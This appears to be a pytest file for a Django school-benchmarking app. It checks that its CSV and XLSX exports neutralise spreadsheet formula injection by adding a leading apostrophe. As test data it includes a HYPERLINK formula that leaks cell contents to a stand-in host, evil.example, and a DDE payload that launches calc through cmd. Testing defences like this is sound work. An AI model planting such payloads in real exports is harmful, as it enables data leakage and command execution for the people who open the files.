"""Exports are inert: formula-like text that a user, a school or GIAS typed comes out as text
in every CSV and XLSX Horizons writes (OWASP CSV injection: a leading apostrophe)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from horizons.benchmarks import audit_io, services
from horizons.benchmarks.scoring import State
from horizons.encounters import exports as reach_exports
from horizons.reports import tabular
from tests.benchmarks.factories import answer_all

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"],
)
def test_formula_leading_text_gets_an_apostrophe_and_reads_back(text: str) -> None:
    assert tabular.escape(text) == "'" + text
    assert tabular.unescape(tabular.escape(text)) == text


@pytest.mark.parametrize("value", ["Felling Primary", "", "'quoted", "a=b", 5, -3, 2.5, None])
def test_ordinary_values_are_left_alone(value: object) -> None:
    assert tabular.escape(value) == value
    assert tabular.unescape(value) == value


def test_dates_and_numbers_stay_numbers_in_xlsx() -> None:
    table = tabular.Table("T", ["a", "b", "c"], [[-5, date(2026, 12, 4), ATTACK]])
    sheet = load_workbook(io.BytesIO(tabular.tables_xlsx([table]))).active
    a, b, c = (cell for cell in sheet[2])
    assert a.value == -5 and a.data_type == "n"
    assert b.value.date() == date(2026, 12, 4)
    assert c.value == "'" + ATTACK and c.data_type == "s"


def _audit_with_attack(world):  # type: ignore[no-untyped-def]
    world.school.name = ATTACK
    world.school.save()
    audit = services.audit_start(school=world.school, by=world.lead, term="Summer 2026")
    answer_all(audit, world.lead, State.IN_PROGRESS)
    services.audit_answer_save(
        audit=audit,
        by=world.lead,
        criterion_id="1.1",
        state="in_progress",
        evidence_note="-1+1 see the governors' minutes",
        expected_version=1,
    )
    audit = services.audit_submit(audit=audit, by=world.lead)
    services.action_create(
        audit=audit, by=world.lead, data={"text": "@SUM(1+1)*cmd", "criterion_id": "1.1"}
    )
    return audit


def _cells(book) -> list[object]:  # type: ignore[no-untyped-def]
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def _assert_inert_workbook(content: bytes, *expected: str) -> None:
    book = load_workbook(io.BytesIO(content))
    cells = _cells(book)
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    values = {c.value for c in cells}
    for text in expected:
        assert "'" + text in values, text
        assert text not in values


@pytest.mark.django_db
def test_the_audit_workbook_is_inert(world, client_for) -> None:  # type: ignore[no-untyped-def]
    audit = _audit_with_attack(world)
    response = client_for("lead").get(reverse("benchmarks:audit_xlsx", args=[audit.pk]))
    assert response.status_code == 200
    _assert_inert_workbook(
        response.content, ATTACK, "-1+1 see the governors' minutes", "@SUM(1+1)*cmd"
    )


@pytest.mark.django_db
def test_export_audits_csv_and_xlsx_are_inert_and_import_reads_them_back(  # type: ignore[no-untyped-def]
    world, tmp_path: Path
) -> None:
    _audit_with_attack(world)
    out = io.StringIO()
    call_command("export_audits", "--hub", "tyne", stdout=out, stderr=io.StringIO())
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert {row["school"] for row in rows} == {"'" + ATTACK}
    notes = {row["criterion"]: row["evidence_note"] for row in rows}
    assert notes["1.1"] == "'-1+1 see the governors' minutes"

    target = tmp_path / "audits.xlsx"
    call_command(
        "export_audits", "--hub", "tyne", "--format", "xlsx", "--output", str(target),
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip
    _assert_inert_workbook(target.read_bytes(), ATTACK, "-1+1 see the governors' minutes")

    # Our own importer reads the apostrophe back off: the note is what the leader typed.
    csv_file = tmp_path / "audits.csv"
    csv_file.write_text(out.getvalue(), encoding="utf-8")
    _, data = audit_io.read_table(csv_file)
    assert "-1+1 see the governors' minutes" in [row[-1] for row in data]


def test_reach_exports_are_inert() -> None:
    tables = [("Schools", ["URN", "School", "Children"], [[100001, ATTACK, 12]])]
    text = reach_exports.to_csv(tables)
    assert list(csv.reader(io.StringIO(text)))[2] == ["100001", "'" + ATTACK, "12"]
    _assert_inert_workbook(reach_exports.to_xlsx(tables), ATTACK)
